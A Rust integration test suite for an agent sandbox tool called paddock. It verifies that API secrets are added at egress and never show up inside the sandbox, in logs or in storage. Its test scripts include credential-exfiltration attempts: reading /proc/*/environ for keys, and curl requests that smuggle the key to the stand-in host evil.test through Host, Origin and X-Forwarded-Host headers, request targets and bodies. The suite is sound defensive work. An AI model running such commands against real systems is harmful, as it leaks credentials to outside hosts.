//! Secrets injected at egress, with real TLS between namespaces the test
//! makes: the sandbox's environment, its processes' environ and its files
//! hold only a placeholder; the HTTPS test host (behind a test CA the
//! operator tells the proxy to trust) receives the value in the secret's
//! header only; every route that would send it elsewhere or have it echoed
//! back is refused; the value is in no output or log line of paddock.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use paddock_tests::cli::SandboxRun;
use paddock_tests::host::require_root;
use paddock_tests::nethost::{DocRange, TestDns, TestHost};
use paddock_tests::tlshost::TestCa;

const PLACEHOLDER: &str = "paddock-secret-placeholder-API_KEY";

#[test]
fn a_secret_reaches_its_host_while_the_sandbox_sees_only_a_placeholder() {
    require_root();
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new().unwrap();
    let ca_file = dir.path().join("test-ca.pem");
    ca.write_pem(&ca_file).unwrap();
    let api =
        TestHost::start_tls("api", DocRange::Net2, 443, ca.server("api.test").unwrap()).unwrap();
    let dns = TestDns::start().unwrap();
    dns.set("api.test", &[api.ip]);
    let value = format!("sk-test-{:x}", std::process::id() as u64 * 7919 + 13);
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("README"), "nothing secret here\n").unwrap();

    let script = [
        "echo \"env=$API_KEY\"",
        // every process's environment, the shell's included
        "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c '^API_KEY=' ",
        "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep '^API_KEY=' | sort -u",
        "echo \"bundle=$SSL_CERT_FILE\"",
        "curl -sS -m 10 -H \"Authorization: Bearer $API_KEY\" https://api.test/v1/models; echo \" rc=$?\"",
        "echo probe > /tmp/probe; env > /workspace/env.txt",
    ]
    .join("; ");
    let (json, run) = SandboxRun::shell(&script)
        .workspace(ws.path())
        .option(&dns.option())
        .option(&api.allow_option())
        .option(&format!("--egress-ca={}", ca_file.display()))
        .option("--secret=API_KEY@api.test=Authorization: Bearer {{secret}}")
        .network("allow:api.test")
        .timeout_secs(30)
        .env("API_KEY", &value)
        .env("RUST_LOG", "debug")
        .run_json();
    let out = &json.stdout;
    assert!(json.error.is_none(), "{json:?}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines[0],
        format!("env={PLACEHOLDER}"),
        "{out}\n{}",
        json.stderr
    );
    assert_ne!(lines[1], "0", "no process environ was read: {out}");
    assert_eq!(lines[2], format!("API_KEY={PLACEHOLDER}"), "{out}");
    assert_eq!(lines[3], "bundle=/etc/paddock-ca.pem");
    assert_eq!(lines[4], "hello from api", "{out}\n{}", json.stderr);
    assert_eq!(lines[5], " rc=0");

    // The host got the value, in the program's own header of the
    // template's name (which wins over the template), once.
    let heads = api.heads();
    assert_eq!(heads.len(), 1, "{heads:?}");
    let head = heads[0].to_ascii_lowercase();
    assert!(head.starts_with("get /v1/models http/1.1\r\n"), "{head}");
    assert!(
        head.contains(&format!("authorization: bearer {value}\r\n")),
        "{head}"
    );
    assert_eq!(head.matches(&value).count(), 1, "{head}");
    assert!(!head.contains(PLACEHOLDER), "{head}");

    // Nowhere else: not in the workspace, not in paddock's output or logs.
    let env_file = std::fs::read_to_string(ws.path().join("env.txt")).unwrap();
    assert!(env_file.contains(PLACEHOLDER), "{env_file}");
    for (what, text) in [
        ("the workspace's env.txt", env_file.as_str()),
        ("stdout", out.as_str()),
        ("the command's stderr", json.stderr.as_str()),
        ("paddock's own stderr (its logs)", run.stderr_str().as_str()),
    ] {
        assert!(!text.contains(&value), "the value is in {what}");
    }
    let decision = json
        .egress
        .iter()
        .find(|d| d.host == "api.test")
        .unwrap_or_else(|| panic!("{:?}", json.egress));
    assert!(
        decision.allowed && decision.reason.is_none(),
        "{decision:?}"
    );
    // its bytes both ways, the answer's included
    assert!(
        decision.bytes_out > 0 && decision.bytes_in > 0,
        "{decision:?}"
    );
    assert!(!format!("{:?}", json.egress).contains(&value));
    // The enforcement report names the secret and its hosts, no value.
    assert_eq!(
        serde_json::to_value(&json.enforcement().secrets).unwrap(),
        serde_json::json!([{"name": "API_KEY", "hosts": ["api.test"]}])
    );
}

/// The review's routes to get the value echoed back or fronted to another
/// site: each is refused with a decision naming why, and the value reaches
/// the host once, in the Authorization header of the one request that
/// asked for nothing else.
#[test]
fn the_value_never_leaves_but_in_its_header_to_its_host() {
    require_root();
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new().unwrap();
    let ca_file = dir.path().join("test-ca.pem");
    ca.write_pem(&ca_file).unwrap();
    let api =
        TestHost::start_tls("api", DocRange::Net3, 443, ca.server("api.test").unwrap()).unwrap();
    let dns = TestDns::start().unwrap();
    dns.set("api.test", &[api.ip]);
    let value = format!("sk-echo-{:x}", std::process::id() as u64 * 7_919_993 + 11);
    let curl = |args: &str| {
        format!(
            "curl -sS -i -m 10 -H \"Authorization: Bearer $API_KEY\" {args} \
             -w ' status=%{{http_code}}\\n' https://api.test/r; echo \"rc=$?\""
        )
    };
    let routes = [
        ("Host echo", curl("-H \"Host: $API_KEY\"")),
        ("Origin echo", curl("-H \"Origin: https://$API_KEY\"")),
        ("Host vs CONNECT target", curl("-H \"Host: evil.test\"")),
        ("absolute URI", curl("--request-target https://evil.test/r")),
        ("$KEY.evil Host", curl("-H \"Host: $API_KEY.evil.test\"")),
        (
            "X-Forwarded-Host",
            curl("-H \"X-Forwarded-Host: $API_KEY\""),
        ),
        ("body", curl("--data \"key=$API_KEY\"")),
    ];
    let mut script: Vec<String> = routes.iter().map(|(_, c)| c.clone()).collect();
    // the one request as meant
    script.push(curl(""));
    let (json, run) = SandboxRun::shell(&script.join("; "))
        .option(&dns.option())
        .option(&api.allow_option())
        .option(&format!("--egress-ca={}", ca_file.display()))
        .option("--secret=API_KEY@api.test")
        .network("allow:api.test")
        .timeout_secs(60)
        .env("API_KEY", &value)
        .run_json();
    let out = &json.stdout;
    assert!(json.error.is_none(), "{json:?}");
    assert_eq!(
        out.matches("status=403").count(),
        routes.len(),
        "{out}\n{}",
        json.stderr
    );
    assert!(
        out.ends_with("hello from api\n status=200\nrc=0\n"),
        "{out}"
    );
    // Nothing came back, nothing went elsewhere.
    for (what, text) in [
        ("the answers", out.as_str()),
        ("the command's stderr", json.stderr.as_str()),
        ("paddock's stderr", run.stderr_str().as_str()),
        ("the decisions", &format!("{:?}", json.egress)),
    ] {
        assert!(!text.contains(&value), "the value is in {what}: {text}");
    }
    let heads = api.heads();
    assert_eq!(
        heads.len(),
        1,
        "only the request as meant was sent: {heads:#?}"
    );
    let head = heads[0].to_ascii_lowercase();
    assert!(head.contains("\r\nhost: api.test\r\n"), "{head}");
    assert!(
        head.contains(&format!("\r\nauthorization: bearer {value}\r\n")),
        "{head}"
    );
    assert_eq!(head.matches(&value).count(), 1, "{head}");
    // Each route is a denied decision saying why.
    let denied: Vec<&str> = json
        .egress
        .iter()
        .filter(|d| !d.allowed && d.host == "api.test")
        .map(|d| d.reason.as_deref().unwrap_or(""))
        .collect();
    let expected = [
        "the placeholder of secret API_KEY in the Host header",
        "the placeholder of secret API_KEY in the Origin header (only its Authorization header carries it)",
        "the Host header names evil.test, not api.test, which the connection was admitted for",
        "the URL names evil.test, not api.test:443, which the connection was admitted for",
        "the placeholder of secret API_KEY in the Host header",
        "the placeholder of secret API_KEY in the X-Forwarded-Host header (only its Authorization header carries it)",
        "the placeholder of secret API_KEY in the request body",
    ];
    assert_eq!(denied, expected, "{:#?}", json.egress);
    let allowed = json
        .egress
        .iter()
        .find(|d| d.allowed && d.host == "api.test")
        .unwrap_or_else(|| panic!("{:#?}", json.egress));
    assert!(
        allowed.bytes_in > 0 && allowed.reason.is_none(),
        "{allowed:?}"
    );
}

/// Every file under `dir` that holds `needle` (the store, its WAL, blobs, workspaces).
fn files_holding(dir: &std::path::Path, needle: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap().flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else if let Ok(bytes) = std::fs::read(&path)
                && bytes.windows(needle.len()).any(|w| w == needle)
            {
                found.push(path.display().to_string());
            }
        }
    }
    found
}

#[test]
fn an_agent_run_with_a_secret_never_stores_it() {
    require_root();
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new().unwrap();
    let ca_file = dir.path().join("test-ca.pem");
    ca.write_pem(&ca_file).unwrap();
    let api =
        TestHost::start_tls("api", DocRange::Net3, 443, ca.server("api.test").unwrap()).unwrap();
    let dns = TestDns::start().unwrap();
    dns.set("api.test", &[api.ip]);
    let value = format!("sk-run-{:x}", std::process::id() as u64 * 104_729 + 7);
    let ws = dir.path().join("ws");
    std::fs::create_dir(&ws).unwrap();
    let command = "curl -sS -m 10 -H \"X-Key: $API_KEY\" https://api.test/v1/models; \
                   env | grep API_KEY > seen.txt; echo done";
    let script = serde_json::json!({"turns": [
        {"text": "calling", "tool_calls": [{"name": "run_command", "arguments": {"command": command}}]},
        {"text": "done", "tool_calls": [{"name": "complete_task", "arguments": {
            "verdict": "met", "summary": "called the API", "evidence": ["curl printed hello"]}}]}
    ]});
    let model = dir.path().join("model.json");
    std::fs::write(&model, script.to_string()).unwrap();
    let data = dir.path().join("data");
    let out = std::process::Command::new(paddock_tests::bins::paddock())
        .args([
            "run",
            "Call the API",
            "--json",
            "--network",
            "allow:api.test",
        ])
        .arg("--workspace")
        .arg(&ws)
        .arg(format!("--model=scripted:{}", model.display()))
        .arg("--secret=API_KEY@api.test=X-Key")
        .arg(format!("--egress-ca={}", ca_file.display()))
        .arg(dns.option())
        .arg(api.allow_option())
        .arg("--data-dir")
        .arg(&data)
        .env("API_KEY", &value)
        .env("RUST_LOG", "debug")
        .env_remove("PADDOCK_SERVER")
        .env_remove("PADDOCK_MODEL")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    );
    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    assert!(stdout.contains("hello from api"), "{stdout}");
    let heads = api.heads();
    assert_eq!(heads.len(), 1, "{heads:?}");
    assert!(
        heads[0]
            .to_ascii_lowercase()
            .contains(&format!("x-key: {value}\r\n")),
        "{heads:?}"
    );
    let seen = std::fs::read_to_string(ws.join("seen.txt")).unwrap();
    assert_eq!(seen, format!("API_KEY={PLACEHOLDER}\n"));
    assert!(!stdout.contains(&value), "the value is in the run's events");
    assert!(!stderr.contains(&value), "the value is in paddock's logs");
    assert!(data.join("paddock.db").exists());
    let holding = files_holding(&data, value.as_bytes());
    assert!(holding.is_empty(), "the value is stored in {holding:?}");
    assert!(files_holding(&ws, value.as_bytes()).is_empty());
}

const TOKEN_A: &str = "secrets-test-token-tenant-a";
const TOKEN_B: &str = "secrets-test-token-tenant-b";
const SERVER_VAR: &str = "PADDOCK_TEST_SERVER_API_KEY";

/// `paddock serve` with `config`, its value variable set to `value` (None:
/// unset), its log in `log`.
fn serve(
    dir: &std::path::Path,
    config: &str,
    extra: &[String],
    value: Option<&str>,
    log: &std::path::Path,
) -> std::process::Command {
    let config_file = dir.join("serve.toml");
    std::fs::write(&config_file, config).unwrap();
    let mut cmd = paddock_tests::serve::command(
        &format!("secrets-{}", std::process::id()),
        &dir.join("server"),
        &format!("tenant-a:{TOKEN_A},tenant-b:{TOKEN_B}"),
    );
    cmd.arg("--config")
        .arg(&config_file)
        .args(extra)
        .env("RUST_LOG", "debug")
        .env_remove(SERVER_VAR)
        .stderr(std::fs::File::create(log).unwrap());
    if let Some(value) = value {
        cmd.env(SERVER_VAR, value);
    }
    cmd
}

/// A running `paddock serve`, stopped with SIGTERM (its sandboxes go with it).
struct Server {
    child: std::process::Child,
    url: String,
}

impl Server {
    fn start(command: std::process::Command) -> Self {
        let (child, url) = paddock_tests::serve::spawn(command).unwrap();
        Self { child, url }
    }

    /// `curl` against the API as `token`: the status and the body.
    fn api(
        &self,
        token: &str,
        method: &str,
        path: &str,
        body: Option<&serde_json::Value>,
    ) -> (u16, String) {
        let mut cmd = std::process::Command::new("curl");
        cmd.args(["-sS", "-m", "60", "-X", method, "-w", "\n%{http_code}"])
            .arg("-H")
            .arg(format!("Authorization: Bearer {token}"))
            .arg(format!("{}{path}", self.url));
        if let Some(body) = body {
            cmd.args(["-H", "Content-Type: application/json", "-d"])
                .arg(body.to_string());
        }
        let out = String::from_utf8_lossy(&cmd.output().unwrap().stdout).into_owned();
        let (body, status) = out.rsplit_once('\n').unwrap();
        (status.trim().parse().unwrap(), body.to_owned())
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = std::process::Command::new("kill")
            .arg("-TERM")
            .arg(self.child.id().to_string())
            .status();
        for _ in 0..300 {
            if let Ok(Some(_)) = self.child.try_wait() {
                return;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn a_server_secret_from_its_environment_reaches_its_host_through_the_api_and_is_never_shown() {
    require_root();
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new().unwrap();
    let ca_file = dir.path().join("test-ca.pem");
    ca.write_pem(&ca_file).unwrap();
    let api =
        TestHost::start_tls("api", DocRange::Net2, 443, ca.server("api.test").unwrap()).unwrap();
    let dns = TestDns::start().unwrap();
    dns.set("api.test", &[api.ip]);
    let value = format!("sk-server-{:x}", std::process::id() as u64 * 15_485_863 + 3);
    let own = format!("sk-own-{:x}", std::process::id() as u64 * 32_452_843 + 5);
    let config = format!(
        "[network]\nmax = \"allow:api.test\"\n\n\
         [secrets.API_KEY]\nhosts = [\"api.test\"]\n\
         header = \"Authorization: Bearer {{{{secret}}}}\"\n\
         env = \"{SERVER_VAR}\"\ntenants = [\"tenant-a\"]\n"
    );
    let flags = vec![
        dns.option(),
        api.allow_option(),
        format!("--egress-ca={}", ca_file.display()),
    ];

    // The variable unset: the server does not start, naming the secret.
    let log = dir.path().join("refused.log");
    let mut refused = serve(dir.path(), &config, &flags, None, &log)
        .spawn()
        .unwrap();
    let status = refused.wait().unwrap();
    let said = std::fs::read_to_string(&log).unwrap();
    assert_eq!(status.code(), Some(2), "{said}");
    assert!(
        said.contains(&format!(
            "secrets.API_KEY: ${SERVER_VAR} is not set in the server's environment"
        )),
        "{said}"
    );

    let log = dir.path().join("server.log");
    let server = Server::start(serve(dir.path(), &config, &flags, Some(&value), &log));

    // A run over HTTP (through `paddock run --server`) naming the server's
    // secret, and one of the caller's own from the CLI's environment.
    let ws = dir.path().join("ws");
    std::fs::create_dir(&ws).unwrap();
    std::fs::write(ws.join("README"), "nothing secret here\n").unwrap();
    let command = "curl -sS -m 10 -H \"X-Own: $OWN_KEY\" \
                   https://api.test/v1/models; echo; echo \"env=$API_KEY $OWN_KEY\"; \
                   cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' \
                   | grep -E '^(API|OWN)_KEY=' | sort -u";
    let script = serde_json::json!({"turns": [
        {"text": "calling", "tool_calls": [{"name": "run_command", "arguments": {"command": command}}]},
        {"text": "done", "tool_calls": [{"name": "complete_task", "arguments": {
            "verdict": "met", "summary": "called the API", "evidence": ["curl printed hello"]}}]}
    ]});
    let model = dir.path().join("model.json");
    std::fs::write(&model, script.to_string()).unwrap();
    let out = std::process::Command::new(paddock_tests::bins::paddock())
        .args([
            "run",
            "Call the API",
            "--json",
            "--network",
            "allow:api.test",
        ])
        .arg("--workspace")
        .arg(&ws)
        .arg(format!("--model=scripted:{}", model.display()))
        .args(["--secret", "API_KEY", "--secret", "OWN_KEY@api.test=X-Own"])
        .env("PADDOCK_SERVER", &server.url)
        .env("PADDOCK_TOKEN", TOKEN_A)
        .env("OWN_KEY", &own)
        .env_remove("PADDOCK_MODEL")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    );
    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    assert!(stdout.contains("hello from api"), "{stdout}");
    assert!(
        stdout.contains(&format!(
            "env={PLACEHOLDER} paddock-secret-placeholder-OWN_KEY"
        )),
        "{stdout}"
    );
    assert!(
        stdout.contains(&format!(
            // the output is inside a JSON string: its newline is `\n`
            "API_KEY={PLACEHOLDER}\\nOWN_KEY=paddock-secret-placeholder-OWN_KEY"
        )),
        "every process's environ holds only the placeholders: {stdout}"
    );
    let heads = api.heads();
    assert_eq!(heads.len(), 1, "{heads:?}");
    let head = heads[0].to_ascii_lowercase();
    assert!(head.contains(&format!("x-own: {own}\r\n")), "{head}");
    assert!(
        head.contains(&format!("authorization: bearer {value}\r\n")),
        "{head}"
    );
    assert!(!head.contains("paddock-secret-placeholder"), "{head}");

    // run.started lists names and hosts only.
    let events: Vec<serde_json::Value> = stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|v| v["type"] == "event")
        .collect();
    let started = events
        .iter()
        .find(|e| e["kind"] == "run.started")
        .unwrap_or_else(|| panic!("no run.started: {stdout}"));
    assert_eq!(
        started["data"]["secrets"],
        serde_json::json!([
            {"name": "API_KEY", "hosts": ["api.test"]},
            {"name": "OWN_KEY", "hosts": ["api.test"]}
        ])
    );
    let run_id = started["run"].as_str().unwrap().to_owned();
    let session = started["session"].as_str().unwrap().to_owned();

    // Over the API: the run, its events and its sandbox never show a value.
    let mut shown = Vec::new();
    for path in [
        format!("/v1/runs/{run_id}"),
        format!("/v1/runs/{run_id}/events"),
        format!("/v1/sessions/{session}/runs"),
        format!("/v1/sessions/{session}"),
        "/v1/sandboxes".to_owned(),
    ] {
        let (status, body) = server.api(TOKEN_A, "GET", &path, None);
        assert_eq!(status, 200, "{path}: {body}");
        shown.push((path, body));
    }

    // A sandbox with a caller's own secret.
    let (status, body) = server.api(
        TOKEN_A,
        "POST",
        "/v1/sandboxes",
        Some(&serde_json::json!({"network": {"allowlist": ["api.test"]},
            "secrets": [{"name": "OWN_KEY", "value": own, "hosts": ["api.test"],
                         "header": "X-Sandbox: {{secret}}"}]})),
    );
    assert_eq!(status, 201, "{body}");
    let sandbox: serde_json::Value = serde_json::from_str(&body).unwrap();
    let sandbox = sandbox["id"].as_str().unwrap().to_owned();
    shown.push(("POST /v1/sandboxes".to_owned(), body));
    let (status, body) = server.api(
        TOKEN_A,
        "POST",
        &format!("/v1/sandboxes/{sandbox}/exec"),
        Some(&serde_json::json!({"shell":
            "curl -sS -m 10 https://api.test/own; echo \"env=$OWN_KEY\""})),
    );
    assert_eq!(status, 200, "{body}");
    let exec: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(
        exec["stdout"], "hello from api\nenv=paddock-secret-placeholder-OWN_KEY\n",
        "{body}"
    );
    let heads = api.heads();
    assert_eq!(heads.len(), 2, "{heads:?}");
    assert!(
        heads[1]
            .to_ascii_lowercase()
            .contains(&format!("x-sandbox: {own}\r\n")),
        "{heads:?}"
    );
    let (status, body) = server.api(TOKEN_A, "GET", &format!("/v1/sandboxes/{sandbox}"), None);
    assert_eq!(status, 200, "{body}");
    shown.push(("GET the sandbox".to_owned(), body));

    // Refusals: an unknown name and a tenant not granted the secret (the
    // same 403, naming it), secrets with no network (400).
    let model = serde_json::json!({"scripted": script});
    let (status, body) = server.api(
        TOKEN_A,
        "POST",
        &format!("/v1/sessions/{session}/runs"),
        Some(&serde_json::json!({"goal": "again", "model": model,
            "network": {"allowlist": ["api.test"]}, "secrets": ["NO_SUCH_SECRET"]})),
    );
    assert_eq!(status, 403, "{body}");
    assert!(
        body.contains("secret NO_SUCH_SECRET is not one this server grants"),
        "{body}"
    );
    let (status, body) = server.api(
        TOKEN_A,
        "POST",
        "/v1/sandboxes",
        Some(&serde_json::json!({"network": {"allowlist": ["api.test"]},
            "secrets": ["NO_SUCH_SECRET"]})),
    );
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("NO_SUCH_SECRET"), "{body}");
    let (status, body) = server.api(
        TOKEN_B,
        "POST",
        "/v1/sandboxes",
        Some(&serde_json::json!({"network": {"allowlist": ["api.test"]},
            "secrets": ["API_KEY"]})),
    );
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("secret_not_allowed"), "{body}");
    let (status, body) = server.api(
        TOKEN_A,
        "POST",
        "/v1/sandboxes",
        Some(&serde_json::json!({"secrets": ["API_KEY"]})),
    );
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("network none"), "{body}");

    let (status, body) = server.api(TOKEN_A, "DELETE", &format!("/v1/sandboxes/{sandbox}"), None);
    assert!((200..300).contains(&status), "{status} {body}");
    drop(server);

    // Nowhere else: no answer, no event, no log line, no stored byte.
    let server_log = std::fs::read_to_string(&log).unwrap();
    assert!(
        server_log.contains("serving"),
        "the log was not kept: {server_log}"
    );
    assert!(dir.path().join("server/paddock.db").exists());
    for secret in [&value, &own] {
        for (what, text) in &shown {
            assert!(
                !text.contains(secret.as_str()),
                "a value is in {what}: {text}"
            );
        }
        assert!(
            !stdout.contains(secret.as_str()),
            "a value is in the run's output"
        );
        assert!(
            !stderr.contains(secret.as_str()),
            "a value is in the CLI's stderr"
        );
        assert!(
            !server_log.contains(secret.as_str()),
            "a value is in the server's log"
        );
        let holding = files_holding(&dir.path().join("server"), secret.as_bytes());
        assert!(holding.is_empty(), "a value is stored in {holding:?}");
    }
    assert!(files_holding(&ws, value.as_bytes()).is_empty());
}

#[test]
fn a_secret_by_name_needs_a_server() {
    let out = std::process::Command::new(paddock_tests::bins::paddock())
        .args(["run", "Call the API", "--model", "scripted:/nonexistent"])
        .args(["--secret", "API_KEY"])
        .env_remove("PADDOCK_SERVER")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("--secret API_KEY: a secret by name is a server's"),
        "{stderr}"
    );
}
